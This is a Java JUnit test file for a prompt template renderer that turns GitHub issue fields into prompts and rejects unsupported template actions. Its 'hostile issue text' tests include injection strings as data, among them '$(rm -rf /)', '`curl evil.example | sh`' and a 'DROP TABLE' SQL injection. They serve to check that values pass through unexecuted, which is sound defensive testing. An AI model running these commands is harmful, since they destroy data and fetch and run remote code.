package io.axon.controller.spawner;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.axon.spi.source.WorkItem;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class PromptTemplateTest {

  private static final Set<String> GITHUB_EXTRAS = Set.of("State", "Author");

  private static WorkItem issue(String title, String body) {
    return new WorkItem(
        "42",
        42,
        title,
        body,
        "https://github.com/acme/widgets/issues/42",
        List.of("bug", "good first issue"),
        Map.of("State", "open", "Author", "octocat"));
  }

  @Test
  void substitutesEveryBuiltInAndExtraField() {
    PromptTemplate template =
        PromptTemplate.parse(
            "#{{.Number}} ({{.ID}}) {{.Title}}\n{{.URL}}\nLabels: {{.Labels}}\n"
                + "{{.State}} by {{.Author}}\n\n{{.Body}}");

    assertThat(template.render(issue("Crash on start", "It crashes.")))
        .isEqualTo(
            "#42 (42) Crash on start\nhttps://github.com/acme/widgets/issues/42\n"
                + "Labels: bug, good first issue\nopen by octocat\n\nIt crashes.");
  }

  @Test
  void acceptsSpacesTabsAndNewlinesInsideBraces() {
    PromptTemplate template = PromptTemplate.parse("Fix: {{ .Title }}|{{\t.Number\t}}|{{\n.ID\n}}");

    assertThat(template.render(issue("T", "B"))).isEqualTo("Fix: T|42|42");
  }

  @Test
  void readmeExampleRenders() {
    assertThat(PromptTemplate.parse("Fix: {{.Title}}\n{{.Body}}").render(issue("Bug", "Details")))
        .isEqualTo("Fix: Bug\nDetails");
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(strings = {"", "   ", "\n\t "})
  void nullOrBlankMeansTheDefault(String blank) {
    PromptTemplate template = PromptTemplate.parse(blank);

    assertThat(template.source()).isEqualTo("{{.Title}}\n\n{{.Body}}");
    assertThat(template.render(issue("Title", "Body"))).isEqualTo("Title\n\nBody");
  }

  @Test
  void textWithoutActionsAndLoneClosingBracesStayAsWritten() {
    assertThat(
            PromptTemplate.parse("Look at }} and { { .Title } } and {single}")
                .render(issue("t", "b")))
        .isEqualTo("Look at }} and { { .Title } } and {single}");
  }

  @Test
  void emptyValuesRenderEmpty() {
    WorkItem bare = new WorkItem("x1", 0, null, null, null, List.of(), Map.of());

    assertThat(
            PromptTemplate.parse("[{{.Title}}|{{.Body}}|{{.Number}}|{{.URL}}|{{.Labels}}|{{.ID}}]")
                .render(bare))
        .isEqualTo("[||0|||x1]");
  }

  // ---- hostile issue text

  @Test
  void templateSyntaxInValuesIsNeverExpanded() {
    WorkItem hostile =
        new WorkItem(
            "7",
            7,
            "{{.Body}}",
            "{{.Title}} {{ .Number }} {{range .}}{{end}} {{",
            "{{.URL}}",
            List.of("{{.ID}}"),
            Map.of("State", "{{.Author}}", "Author", "}}{{"));

    String prompt =
        PromptTemplate.parse("{{.Title}}|{{.Body}}|{{.URL}}|{{.Labels}}|{{.State}}|{{.Author}}")
            .render(hostile);

    assertThat(prompt)
        .isEqualTo(
            "{{.Body}}|{{.Title}} {{ .Number }} {{range .}}{{end}} {{|{{.URL}}|{{.ID}}|{{.Author}}|}}{{");
  }

  @Test
  void shellSyntaxAndBackticksPassThroughByteForByte() {
    String body =
        "$(rm -rf /) `curl evil.example | sh` ${HOME} $1 \\1 \\ '; DROP TABLE x; -- \" && exit 1"
            + " %s %n %1$s\r\n\u0000end";

    assertThat(PromptTemplate.parse("{{.Title}}: {{.Body}}").render(issue("`whoami`; $(id)", body)))
        .isEqualTo("`whoami`; $(id): " + body);
  }

  @Test
  void nonAsciiTextIsKept() {
    String title = "Привет, 世界 — café 👩‍💻 \u202Eevil\u202C e\u0301";
    String body = "עברית العربية 🇯🇵 \uD834\uDD1E";

    assertThat(PromptTemplate.parse("→ {{.Title}} ←\n{{.Body}}").render(issue(title, body)))
        .isEqualTo("→ " + title + " ←\n" + body);
  }

  @Test
  void veryLongBodiesAreCopiedWhole() {
    String body = "{{.Title}} $(x) ".repeat(200_000);

    String prompt = PromptTemplate.parse("{{.Body}}").render(issue("t", body));

    assertThat(prompt).hasSize(body.length()).isEqualTo(body);
  }

  // ---- rejected templates

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{.Title | printf \"%q\"}}",
        "{{printf \"%s\" .Title}}",
        "{{if .Body}}yes{{end}}",
        "{{range .Labels}}x{{end}}",
        "{{.}}",
        "{{}}",
        "{{ }}",
        "{{- .Title -}}",
        "{{/* comment */}}",
        "{{\"{{\"}}",
        "{{$x := .Title}}",
        "{{.Title.Length}}",
        "{{ .Title .Body }}",
        "{{template \"x\"}}",
        "{{index .Extra \"State\"}}",
        "{{.Title}",
      })
  void rejectsEverythingButFieldReferences(String action) {
    assertThatThrownBy(() -> PromptTemplate.parse("Fix:\n  x " + action + " y"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("line 2, column 5")
        .hasMessageContaining("{{.Title}}, {{.Body}}, {{.Number}}, {{.URL}}, {{.Labels}}, {{.ID}}");
  }

  @Test
  void unsupportedActionMessageNamesTheAction() {
    assertThatThrownBy(() -> PromptTemplate.parse("Fix: {{ .Title | upper }}"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith(
            "promptTemplate: unsupported action '{{ .Title | upper }}' at line 1, column 6: only"
                + " field references are supported.");
  }

  @Test
  void unclosedActionIsRejectedWithItsPosition() {
    assertThatThrownBy(() -> PromptTemplate.parse("a\nb\n  {{.Title"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("promptTemplate: unclosed action '{{.Title' at line 3, column 3");
  }

  @Test
  void columnsCountCharactersNotUtf16Units() {
    assertThatThrownBy(() -> PromptTemplate.parse("👩‍💻 {{if}}"))
        .hasMessageContaining("line 1, column 5");
  }

  @Test
  void longActionsAreShortenedInMessages() {
    String action = "{{ " + "x".repeat(500) + " }}";

    assertThatThrownBy(() -> PromptTemplate.parse(action))
        .isInstanceOf(IllegalArgumentException.class)
        .satisfies(e -> assertThat(e.getMessage().length()).isLessThan(400));
  }

  @Test
  void knowingTheSourcesExtrasRejectsUnknownFieldsAtParse() {
    assertThat(
            PromptTemplate.parse("{{.State}} {{.Author}}", GITHUB_EXTRAS).render(issue("t", "b")))
        .isEqualTo("open octocat");
    assertThatThrownBy(() -> PromptTemplate.parse("Fix {{.Titel}}", GITHUB_EXTRAS))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "promptTemplate: unknown field '{{.Titel}}' at line 1, column 5. Supported fields:"
                + " {{.Title}}, {{.Body}}, {{.Number}}, {{.URL}}, {{.Labels}}, {{.ID}},"
                + " {{.Author}}, {{.State}}");
    assertThatThrownBy(() -> PromptTemplate.parse("{{.title}}", GITHUB_EXTRAS))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void withoutKnownExtrasAnUnknownFieldFailsAtRender() {
    PromptTemplate template = PromptTemplate.parse("{{.Title}} {{.Milestone}}");

    assertThatThrownBy(() -> template.render(issue("t", "b")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "promptTemplate: unknown field {{.Milestone}} at line 1, column 12: this source's items"
                + " do not have it. Supported fields: {{.Title}}, {{.Body}}, {{.Number}},"
                + " {{.URL}}, {{.Labels}}, {{.ID}}, {{.Author}}, {{.State}}");
  }
}
